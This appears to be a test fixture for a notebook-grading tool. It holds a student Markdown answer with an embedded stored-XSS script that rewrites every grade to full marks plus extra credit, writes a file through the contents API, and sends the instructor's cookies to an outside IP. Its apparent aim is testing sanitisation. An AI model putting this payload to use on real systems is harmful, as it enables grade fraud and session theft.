"""A <script> in a hand-graded Markdown answer: run in the instructor's formgrader session, it
writes a file through the contents API and sets the student's own grades; in the feedback
it runs again. (For a Markdown cell the text after this docstring is the cell's Markdown.)

cell: task32_low_pass_answer
fails:
plain: same
"""
A LIF neuron low-pass filters its input, since $v_{k+1} = v_k + (i_k - v_k)/\tau$ averages.

<script>
window.__pwned = (window.__pwned || 0) + 1;
var xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "";
fetch("/api/contents/pwned-34.txt", {method: "PUT", headers: {"X-XSRFToken": xsrf,
  "Content-Type": "application/json"}, body: JSON.stringify({type: "file", format: "text",
  content: "student code ran as the instructor"})});
fetch("/formgrader/api/submitted_notebooks/module1/neurons").then(r => r.json()).then(subs =>
  subs.forEach(s => fetch("/formgrader/api/grades?submission_id=" + s.id).then(r => r.json())
    .then(gs => gs.forEach(g => fetch("/formgrader/api/grade/" + g.id, {method: "PUT",
      headers: {"X-XSRFToken": xsrf}, body: JSON.stringify({manual_score: g.max_score,
      extra_credit: 10})})))));
new Image().src = "http://203.0.113.7/leak?c=" + encodeURIComponent(document.cookie);
</script>
